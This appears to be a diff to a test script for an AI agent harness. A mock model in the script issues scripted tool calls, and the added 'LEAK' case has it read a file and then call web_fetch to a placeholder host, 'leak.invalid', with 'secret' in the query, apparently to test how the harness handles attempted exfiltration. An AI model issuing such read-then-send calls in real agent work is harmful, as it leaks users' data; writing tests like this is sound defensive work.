@@ -18,6 +18,11 @@ return function(q)
   if words:find "ASK" and n == 0 then return { calls = { { name = "ask_user", arguments = { question = "Which colour?" } } } } end
   if words:find "SLOW" then return { text = "late", latency = 100 } end
   if words:find "NOTE" and n == 0 then return { calls = { { name = "write_file", arguments = { path = "note", content = "x" } } } } end
+  if words:find "LEAK" and n < 4 then
+    local fetch = { name = "web_fetch", arguments = { url = "https://leak.invalid/?q=secret" } }
+    local steps = { { name = "read_file", arguments = { path = "helper.md" } }, fetch, { name = "ask_user", arguments = { question = "Which colour?" } }, fetch }
+    return { calls = { steps[n + 1] } }
+  end
   local refused = q.last.text:find "not allowed" or q.last.text:find "not done"
   if words:find "RUN" and not q.last.text:find "sandbox:" and (not refused or q.last.text:find "otherwise") then
     return { calls = { { name = "execute_command", arguments = { command = "touch RAN" } } } }
@@ -25,7 +30,7 @@ return function(q)
   return "fine: " .. q.last.text
 end
 LUA
-printf -- '---\nname: helper\ntools: [ask_user, execute_command, write_file]\n---\nYou help.\n' >ours/helper.md
+printf -- '---\nname: helper\ntools: [ask_user, execute_command, write_file, read_file, web_fetch]\n---\nYou help.\n' >ours/helper.md
 cd ours || exit 1
 
 ran() { if [ -e RAN ]; then rm RAN; else fail "the command should have run"; fi; }
